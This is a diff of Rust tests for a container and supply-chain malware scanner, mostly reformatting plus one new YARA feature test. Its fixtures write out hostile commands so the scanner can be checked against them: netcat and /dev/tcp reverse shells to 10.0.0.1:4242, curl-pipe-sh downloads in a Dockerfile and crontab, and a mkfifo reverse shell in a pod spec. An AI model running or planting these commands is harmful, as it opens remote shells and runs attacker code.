@@ -1009,12 +1009,15 @@ fn image_malware_in_every_layer_with_the_layer_that_deleted_it() {
         ]
     });
     let archive = dir.path().join("planted.tar");
-    std::fs::write(&archive, docker_save_archive(&[base, planted, cleanup], config, "planted:1")).expect("write");
+    std::fs::write(&archive, docker_save_archive(&[base, planted, cleanup], config, "planted:1"))
+        .expect("write");
     let out = shipshape(dir.path(), &["image", "planted.tar", "-f", "json"]);
     assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
     let found = detailed(&json(&out));
     let has = |code: &str, path: &str, line: u64, severity: &str| {
-        found.iter().any(|f| f.0 == code && f.1 == format!("planted.tar!/{path}") && f.2 == line && f.3 == severity)
+        found
+            .iter()
+            .any(|f| f.0 == code && f.1 == format!("planted.tar!/{path}") && f.2 == line && f.3 == severity)
     };
     assert!(has("SUP111", "layer-1/opt/start.sh (deleted by layer 2)", 2, "critical"), "{found:#?}");
     assert!(has("SUP114", "layer-1/tmp/eicar.com (deleted by layer 2)", 1, "medium"), "{found:#?}");
@@ -1050,10 +1053,18 @@ fn malware_in_scripts_crontabs_and_dockerfiles_of_a_tree() {
         "FROM debian:12\nRUN curl -s http://198.18.0.9/install.sh | sh\nCOPY crontab /etc/cron.d/app\nCMD curl -s http://198.18.0.9/start.sh | sh\n",
     );
     write(root, "app/entrypoint.sh", "#!/bin/sh\nset -e\nnc -e /bin/sh 10.0.0.1 4242\nexec \"$@\"\n");
-    write(root, "app/crontab", "*/5 * * * * root curl -fsSL https://x.invalid.org/u | sh\n0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n");
+    write(
+        root,
+        "app/crontab",
+        "*/5 * * * * root curl -fsSL https://x.invalid.org/u | sh\n0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
+    );
     write(root, "app/healthcheck.sh", "#!/bin/sh\nnc -z db 5432 && curl -fsSL https://get.docker.com | sh\n");
     write(root, "docs/shells.md", "A reverse shell: `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`.\n");
-    write(root, "k8s/pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: c\n    image: busybox:1.36\n    command: [\"sh\", \"-c\", \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\"]\n");
+    write(
+        root,
+        "k8s/pod.yaml",
+        "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: c\n    image: busybox:1.36\n    command: [\"sh\", \"-c\", \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\"]\n",
+    );
     std::fs::write(root.join("app/kworker"), miner_stand_in()).expect("write");
     std::fs::write(root.join("app/eicar.com"), eicar()).expect("write");
     let out = shipshape(root, &["scan", ".", "-f", "json"]);
@@ -1068,8 +1079,20 @@ fn malware_in_scripts_crontabs_and_dockerfiles_of_a_tree() {
         ("SUP111", "k8s/pod.yaml", 8),
     ];
     for (code, path, line) in expected {
-        assert!(found.iter().any(|f| f.0 == code && f.1 == path && f.2 == line), "{code} {path}:{line}: {found:#?}");
+        assert!(
+            found.iter().any(|f| f.0 == code && f.1 == path && f.2 == line),
+            "{code} {path}:{line}: {found:#?}"
+        );
     }
     assert_eq!(found.len(), expected.len(), "RUN is SUP001's, docs and probes are not malware: {found:#?}");
     assert!(findings(&json(&out)).iter().any(|f| f.0 == "SUP001" && f.1 == "app/Dockerfile" && f.2 == 2));
+}
+
+#[cfg(not(feature = "yara"))]
+#[test]
+fn yara_rules_need_the_yara_feature() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = shipshape(dir.path(), &["scan", ".", "--yara-rules", "rules"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("--features yara"));
 }
